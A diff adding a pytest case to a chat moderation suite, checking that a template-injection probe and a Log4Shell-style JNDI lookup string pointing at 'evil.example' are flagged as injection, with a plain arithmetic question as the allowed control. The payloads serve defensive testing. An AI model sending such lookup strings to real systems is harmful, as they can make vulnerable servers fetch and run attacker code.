@@ -188,3 +188,11 @@ def test_ordinary_number_questions_are_not_personal_data(moderator: Moderator) -
 def test_hostile_character_traits_in_any_framing(moderator: Moderator, text: str) -> None:
     assert not moderator.check_input(text, "chat", f"r{hash(text)}").allowed
     assert not moderator.check_output("Life isn't worth living, friends.", True).allowed
+
+
+def test_code_payloads_are_refused_and_never_read_out(moderator: Moderator) -> None:
+    payload = "{{7*7}} ${jndi:ldap://evil.example/a} kitsu what's 7 times 7"
+    assert moderator.check_input(payload, "chat", "cheddar").rule == "injection"
+    said = "The number of 7s in {jndi:ldap://evil} kitsu means ten."
+    assert moderator.check_output(said, True).rule == "announce"
+    assert moderator.check_input("what's 7 times 7?", "chat", "cheddar2").allowed
